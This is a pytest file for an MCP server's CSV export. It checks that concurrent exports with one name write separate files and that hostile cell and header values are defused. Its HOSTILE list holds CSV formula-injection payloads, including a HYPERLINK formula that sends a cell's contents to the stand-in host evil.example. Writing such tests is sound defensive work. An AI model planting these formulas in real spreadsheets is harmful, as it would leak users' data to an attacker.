"""Export files under concurrency and hostile names (issue 13 items 10-11): every export gets its own file,
even ten at once with the same name, and no CSV cell, header cells included, can start a formula."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client
from mcp.types import CallToolResult

from databar_mcp.config import Settings
from databar_mcp.core.files.export_writing import FORMULA_START
from tests.conftest import BULK_ARGS, lead, structured

pytestmark = pytest.mark.anyio

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "\tTAB"]


async def concurrently(mcp: Client, name: str, args: dict[str, Any], n: int) -> list[CallToolResult]:
    results: list[CallToolResult] = []

    async def one() -> None:
        results.append(await mcp.call_tool(name, args))

    async with anyio.create_task_group() as group:
        for _ in range(n):
            group.start_soon(one)
    return results


def csv_rows(path: str) -> list[list[str]]:
    with Path(path).open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


async def test_ten_concurrent_task_exports_with_one_name_write_ten_files(mcp: Client, settings: Settings) -> None:
    task_id = structured(await mcp.call_tool("run_bulk_waterfall", BULK_ARGS))["task_id"]
    results = await concurrently(mcp, "export_task_result", {"task_id": task_id, "filename": "race"}, 10)
    assert not any(r.is_error for r in results)
    paths = {structured(r)["path"] for r in results}
    assert len(paths) == 10
    files = sorted(settings.exports_dir.glob("race*.csv"))
    assert len(files) == 10 and {str(f) for f in files} == paths
    assert all(len(csv_rows(str(f))) == 1 + len(BULK_ARGS["params"]) for f in files)


async def test_ten_concurrent_table_exports_with_one_name_write_ten_files(mcp: Client, settings: Settings) -> None:
    made = structured(await mcp.call_tool("create_table", {"name": "race", "columns": ["name"]}))
    table = made["identifier"]
    await mcp.call_tool("insert_rows", {"table_uuid": table, "rows": [{"name": f"n{i}"} for i in range(5)]})
    results = await concurrently(mcp, "export_table_rows", {"table_uuid": table, "filename": "trace"}, 10)
    assert not any(r.is_error for r in results)
    assert len({structured(r)["path"] for r in results}) == 10
    files = sorted(settings.exports_dir.glob("trace*.csv"))
    assert len(files) == 10
    assert all(len(csv_rows(str(f))) == 6 for f in files)  # one header, five rows: no file written twice


async def test_an_existing_file_is_never_overwritten(mcp: Client, settings: Settings) -> None:
    settings.exports_dir.mkdir(parents=True)
    mine = settings.exports_dir / "keep.csv"
    mine.write_text("precious\n")
    task_id = structured(await mcp.call_tool("run_bulk_waterfall", BULK_ARGS))["task_id"]
    out = structured(await mcp.call_tool("export_task_result", {"task_id": task_id, "filename": "keep"}))
    assert out["path"].endswith("keep-1.csv")
    assert mine.read_text() == "precious\n"


async def test_task_export_headers_are_defused(mcp: Client) -> None:
    row = {**lead("John", "Doe", "example.com"), **{key: "v" for key in HOSTILE}}
    task_id = structured(await mcp.call_tool("run_bulk_waterfall", {**BULK_ARGS, "params": [row]}))["task_id"]
    out = structured(await mcp.call_tool("export_task_result", {"task_id": task_id, "filename": "hostile"}))
    rows = csv_rows(out["path"])
    cells = [c for line in rows for c in line]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'" + HOSTILE[0] in rows[0] and "'@SUM(1+1)" in rows[0]


async def test_table_export_headers_are_defused(mcp: Client) -> None:
    made = structured(await mcp.call_tool("create_table", {"name": "hostile", "columns": HOSTILE}))
    table = made["identifier"]
    await mcp.call_tool("insert_rows", {"table_uuid": table, "rows": [dict.fromkeys(HOSTILE, "=1+1")]})
    out = structured(await mcp.call_tool("export_table_rows", {"table_uuid": table, "filename": "hostile_table"}))
    rows = csv_rows(out["path"])
    assert not [c for line in rows for c in line if c.startswith(FORMULA_START)]
    assert "'@SUM(1+1)" in rows[0]
